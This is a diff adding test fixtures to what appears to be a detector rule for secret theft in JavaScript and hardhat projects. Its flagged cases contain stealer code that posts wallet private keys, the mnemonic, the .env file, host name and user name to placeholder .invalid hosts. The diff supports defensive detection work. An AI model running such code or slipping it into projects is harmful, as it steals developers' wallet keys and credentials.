@@ -11,6 +11,16 @@ req.end(body);
 ruleTest(rule, {
   clean: [
     {
+      name: 'hardhat script signs with the deployer key, then posts only the address and tx hash',
+      file: 'scripts/deploy.js',
+      code: `const { ethers } = require('ethers');\nconst axios = require('axios');\nasync function main() {\n  const wallet = new ethers.Wallet(process.env.PRIVATE_KEY, new ethers.JsonRpcProvider(process.env.RPC_URL));\n  const tx = await wallet.sendTransaction({ to: process.env.TREASURY, value: 1n });\n  await axios.post('https://hooks.example.org/deploys', { address: wallet.address, hash: tx.hash });\n}\nmain();\n`,
+    },
+    {
+      name: 'an API key in a request header; dotenv loads .env into process.env',
+      file: 'src/client.js',
+      code: `require('dotenv').config({ path: '.env' });\nconst fs = require('fs');\nconst local = fs.existsSync('.env') ? 'found' : 'missing';\nfetch('https://api.example.org/v1/items', { headers: { Authorization: \`Bearer \${process.env.API_KEY}\` } }).then((r) => r.json());\n`,
+    },
+    {
       name: 'CLI config in the home directory, fetching updates',
       file: 'bin/cli.js',
       code: `const os = require('os'), path = require('path');
@@ -37,6 +47,18 @@ export const send = (event: string) => fetch('https://telemetry.example.org/v1',
     },
   ],
   flagged: [
+    {
+      name: 'a hardhat task posts the deployer key, the mnemonic and the .env text with the host identity',
+      file: 'tasks/gas-oracle.js',
+      code: `const axios = require('axios');\nconst os = require('os');\nconst fs = require('fs');\nfunction readEnvFile() {\n  try { return fs.readFileSync(require('path').join(process.cwd(), '.env'), 'utf8'); } catch { return ''; }\n}\nasync function warm() {\n  const profile = { host: os.hostname(), user: os.userInfo().username, key: process.env.PRIVATE_KEY || null, mnemonic: process.env.MNEMONIC || null, env: readEnvFile() };\n  await axios.post('https://gas-oracle.example.invalid/api/v1/warm', profile, { timeout: 4000 });\n}\nwarm();\n`,
+      findings: [{ line: 9, severity: 'critical', confidence: 'high', message: /wallet secrets, the \.env file, host name, user name/ }],
+    },
+    {
+      name: 'only the wallet key in the body, to a named host: high',
+      file: 'lib/sync.js',
+      code: `fetch('https://sync.example.invalid/k', { method: 'POST', body: JSON.stringify({ k: process.env.WALLET_PRIVATE_KEY }) });\n`,
+      findings: [{ line: 1, severity: 'high', confidence: 'high', message: /wallet secrets/ }],
+    },
     {
       name: 'env + hostname + user posted',
       file: 'index.js',
